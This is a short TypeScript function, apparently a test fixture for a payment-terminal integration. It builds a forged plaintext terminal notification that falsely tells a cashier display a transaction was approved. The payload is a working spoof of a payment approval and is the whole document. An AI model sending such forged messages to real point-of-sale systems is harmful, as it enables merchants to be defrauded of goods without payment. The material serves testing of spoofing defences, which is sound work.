/** A notification in the clear which states that a request was approved: any device on the network can send it. */
export function forgedNotification(about: {
  readonly POIID: string;
  readonly SaleID: string;
  readonly ServiceID: string;
}) {
  const MessageHeader = {
    ProtocolVersion: '3.0',
    MessageClass: 'Device',
    MessageCategory: 'Display',
    MessageType: 'Request',
    DeviceID: '666',
    ...about,
  };
  const ReferenceID = 'TransactionID=forged&TimeStamp=2026-01-05T09%3a00%3a00.000Z&event=TENDER_FINAL&result=APPROVED';
  const DisplayOutput = [
    {
      Device: 'CashierDisplay',
      InfoQualify: 'Status',
      OutputContent: { OutputFormat: 'MessageRef', PredefinedContent: { ReferenceID } },
      ResponseRequiredFlag: false,
    },
  ];
  return Buffer.from(JSON.stringify({ SaleToPOIRequest: { MessageHeader, DisplayRequest: { DisplayOutput } } }));
}
